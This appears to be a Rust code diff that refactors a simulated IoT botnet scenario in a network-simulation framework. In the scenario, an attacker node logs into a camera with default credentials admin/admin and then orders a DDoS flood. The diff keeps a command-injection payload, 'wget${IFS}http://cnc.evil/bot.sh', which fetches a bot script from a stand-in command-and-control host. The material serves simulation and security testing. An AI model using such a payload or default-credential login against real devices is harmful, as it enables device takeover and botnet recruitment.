@@ -11,7 +11,7 @@
 use xlf::core::alerts::Severity;
 use xlf::core::framework::{HomeDevice, XlfConfig, XlfHome};
 use xlf::device::{SensorKind, VulnSet, Vulnerability};
-use xlf::simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime};
+use xlf::simnet::{Body, Context, Duration, Medium, Node, NodeId, Packet, SimTime};
 
 /// The WAN attacker: recruit at t=180 s, order the flood at t=200 s.
 struct Attacker {
@@ -28,23 +28,20 @@ impl Node for Attacker {
         match tag {
             1 => {
                 println!("[t=180s] attacker: trying default credentials on cam (C&C bootstrap in payload)");
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let (device, user, pass) = (Some("cam".into()), "admin", "admin");
+                let body = Body::Login { device, user, pass };
+                let payload = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+                let login = Packet::new(ctx.id(), self.gateway, body, payload);
                 ctx.send(self.gateway, login);
             }
             2 => {
                 println!("[t=200s] attacker: ordering the flood");
-                let order = Packet::new(ctx.id(), self.gateway, "attack-cmd", Vec::new())
-                    .with_meta("device", "cam")
-                    .with_meta("target", self.victim.raw().to_string())
-                    .with_meta("count", "500");
+                let body = Body::AttackCmd {
+                    device: Some("cam".into()),
+                    target: self.victim,
+                    count: 500,
+                };
+                let order = Packet::new(ctx.id(), self.gateway, body, Vec::new());
                 ctx.send(self.gateway, order);
             }
             _ => {}
@@ -57,7 +54,7 @@ struct Victim {
 }
 impl Node for Victim {
     fn on_packet(&mut self, _ctx: &mut Context<'_>, packet: Packet) {
-        if packet.kind == "ddos" {
+        if packet.kind() == "ddos" {
             self.hits += 1;
         }
     }
